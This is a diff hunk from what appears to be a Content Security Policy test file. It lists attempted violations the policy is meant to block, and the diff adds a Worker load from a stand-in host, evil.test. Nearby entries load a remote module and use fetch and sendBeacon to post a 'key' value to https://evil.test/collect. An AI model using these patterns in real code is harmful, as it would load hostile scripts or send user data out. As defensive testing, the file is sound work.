@@ -97,6 +97,7 @@ const attacks: readonly [directive: string, what: string, attempt: () => unknown
     'a page of this origin in a frame',
     () => document.body.append(Object.assign(document.createElement('iframe'), { src: '/' })),
   ],
+  ['require-trusted-types-for', 'the address of a worker', () => new Worker('https://evil.test/x.js')],
   ['script-src-elem', 'a module of another origin', () => import(['https://evil.test/x.js'].join())],
   ['connect-src', 'a server that is not configured', () => fetch('https://evil.test/collect', { method: 'POST' })],
   ['connect-src', 'a beacon to it', () => navigator.sendBeacon('https://evil.test/collect', 'key')],
